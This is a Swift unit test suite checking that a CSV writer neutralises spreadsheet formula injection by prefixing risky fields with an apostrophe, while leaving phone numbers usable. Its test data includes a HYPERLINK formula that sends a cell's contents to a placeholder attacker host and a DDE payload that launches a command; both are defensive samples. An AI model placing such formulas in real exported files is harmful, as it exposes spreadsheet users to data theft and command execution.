import LoaCore
import Testing

/// A spreadsheet runs a cell that starts with `=`, `+`, `-`, `@`, a tab or a carriage return; the
/// CSV writer marks such a field as text with a leading `'`.
@Suite("CSV writer: formula injection")
struct CSVFormulaTests {
    @Test(arguments: [
        ("=HYPERLINK(\"http://evil.example/?\"&A1,\"Bấm\")", "\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"Bấm\"\")\""),
        ("=1+2", "'=1+2"),
        ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1+2", "'\t=1+2"),
        ("\r=1+2", "\"'\r=1+2\""),
        ("=", "'="),
        ("+", "'+"),
        ("-", "'-"),
        ("+84 912 345 678", "'+84 912 345 678"),
        ("-.", "'-."),
    ])
    func formulaStartsAreMarkedAsText(field: String, expected: String) {
        #expect(CSVWriter.escape(field) == expected)
    }

    @Test(arguments: [
        "0912345678",
        "+84912345678",
        "-3",
        "+0.8",
        "Nguyễn = Văn",
        "Thôn 1 - Đông",
        " =not at the start",
        "'already text",
        "",
    ])
    func otherFieldsAreUnchanged(field: String) {
        #expect(CSVWriter.escape(field) == field)
    }

    @Test
    func phoneColumnStaysUsable() {
        var writer = CSVWriter()
        writer.append(["name", "phone", "e164"])
        writer.append(["=1+1", "0912345678", "+84912345678"])
        #expect(writer.text == "name,phone,e164\r\n'=1+1,0912345678,+84912345678\r\n")
    }
}
